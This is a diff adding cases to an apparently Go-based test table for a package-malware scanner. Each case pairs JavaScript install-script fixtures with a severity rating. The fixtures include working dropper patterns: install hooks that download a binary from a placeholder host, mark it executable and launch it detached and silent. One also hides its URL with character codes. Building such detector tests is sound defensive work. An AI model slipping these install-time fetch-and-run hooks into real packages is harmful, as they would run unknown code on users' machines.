@@ -31,6 +31,13 @@ const cp = await import("node:child_process"); cp.spawn(t, ["--version"])`}, fin
 		// warning; the same host given to a request is a download
 		{"docs_link_in_message", map[string]string{"index.js": `const fs=require("fs"),os=require("os"),cp=require("child_process"); const r = await fetch(reportUrl); fs.writeFileSync(out, await r.text()); warn("Consider running slow files in parallel. See: https://docs.example.invalid/test-parallel"); cp.fork(entry, {detached: false, stdio: "ignore", cwd: os.tmpdir()})`}, finding.SeverityLow},
 		// a URL built at run time, fetched into a temp directory and
+		// an unknown host's program started detached and silent at
+		// install from a cache directory, not the temp directory
+		{"install_cache_dir_detached", map[string]string{"package.json": rt.Pkg(`"scripts":{"install":"node fetch.js"}`),
+			"fetch.js": `const fs=require("fs"),os=require("os"),path=require("path"),https=require("https"),{spawn}=require("child_process"); const p=path.join(os.homedir(),".cache","vips","helper"); https.get("https://dl.example.invalid/helper", r => r.pipe(fs.createWriteStream(p, {mode: 0o755})).on("finish", () => spawn(p, ["--daemon"], {detached: true, stdio: "ignore"}).unref()))`}, finding.SeverityCritical},
+		// the same in sight (an installer checking what it fetched runs)
+		{"install_cache_dir_in_sight", map[string]string{"package.json": rt.Pkg(`"scripts":{"install":"node fetch.js"}`),
+			"fetch.js": `const fs=require("fs"),os=require("os"),path=require("path"),https=require("https"),{spawnSync}=require("child_process"); const p=path.join(os.homedir(),".cache","vips","helper"); https.get("https://dl.example.invalid/helper", r => r.pipe(fs.createWriteStream(p, {mode: 0o755})).on("finish", () => spawnSync(p, ["--version"])))`}, finding.SeverityMedium},
 		// started detached: at install a dropper, in a library low
 		{"install_hidden_url_detached", map[string]string{"package.json": rt.Pkg(`"scripts":{"install":"node fetch.js"}`),
 			"fetch.js": `const fs=require("fs"),os=require("os"),path=require("path"),https=require("https"),{spawn}=require("child_process"); const u=String.fromCharCode(...codes); const p=path.join(os.tmpdir(),".cache-bin"); https.get(u, r => r.pipe(fs.createWriteStream(p)).on("finish", () => { fs.chmodSync(p, 0o755); spawn(p, [], {detached: true, stdio: "ignore"}).unref() }))`}, finding.SeverityCritical},
